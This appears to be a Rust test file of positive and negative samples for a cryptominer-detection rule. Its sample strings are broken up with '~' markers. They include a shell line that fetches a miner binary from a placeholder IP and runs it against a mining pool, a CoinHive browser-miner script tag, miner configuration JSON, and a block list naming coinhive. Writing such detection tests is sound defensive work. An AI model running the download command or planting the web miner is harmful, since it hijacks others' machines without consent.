//! `malware.miner`.

use super::{Case, case};
use crate::samples::{elf, script, text};

pub(crate) fn cases() -> Vec<Case> {
    let settings = "\"url\": \"pool.example:3333\", \"rand~omx\": {}, \"donate~-level\": 1, \"rig~-id\": null}";
    vec![
        case(
            "miner_xmrig",
            elf(&["rx/~wow", "cn-heavy/~xhv", "argon2/~chukwa", "N5x~mrig"]),
            elf(&["rx/~wow", "N5x~mrig", "nice~hash", "argon2id"]),
        ),
        case(
            "miner_xmr_stak",
            elf(&[
                "xmr-~stak",
                "cpu_threads~_conf",
                "cryptonight~_",
                "pool_~list",
            ]),
            elf(&["cpu_threads~_conf", "pool_~list", "use_slow_memory"]),
        ),
        case(
            "miner_stratum",
            elf(&[
                "mining.~subscribe",
                "mining.~authorize",
                "mining.~submit",
                "stratum~+tcp://",
                "hash~rate",
            ]),
            elf(&[
                "mining.~subscribe",
                "data.mining",
                "text mining",
                "stratum~+tcp://",
                "hash~rate",
            ]),
        ),
        case(
            "miner_cryptonote",
            elf(&["stratum~+ssl://", "keep~alived", "seed_~hash", "Rand~omX"]),
            elf(&["seed_~hash", "keep~alived", "Rand~omX"]),
        ),
        case(
            "miner_ethash",
            elf(&["eth_submit~Login", "eth_submit~Hashrate", "stratum1~+tcp"]),
            elf(&["eth_submit~Hashrate", "eth_submit~Work", "eth_getBalance"]),
        ),
        case(
            "miner_graphics",
            elf(&[
                "kaw~pow",
                "etc~hash",
                "auto~lykos2",
                "T-Rex~ NVIDIA GPU miner",
            ]),
            elf(&["kaw~pow", "etc~hash", "auto~lykos2"]),
        ),
        case(
            "miner_start_script",
            script(
                "sh",
                "cu~rl -sO http://192.0.2.1/xm~rig\n./xm~rig -o stra~tum+tcp://pool.example:3333\n",
            ),
            script("sh", "pkill xm~rig\ncu~rl -s http://192.0.2.1/health\n"),
        ),
        case(
            "miner_settings",
            text(&format!("{{\"po~ols\": [], {settings}")),
            text(&format!("An example: {{\"po~ols\": [], {settings}")),
        ),
        case(
            "miner_in_web_page",
            text("<script>var m = new Coin~Hive.Anonymous('k'); m.st~art();</script>"),
            text("! block list\n||coin~hive.com^\nnew Coin~Hive.\n"),
        ),
    ]
}
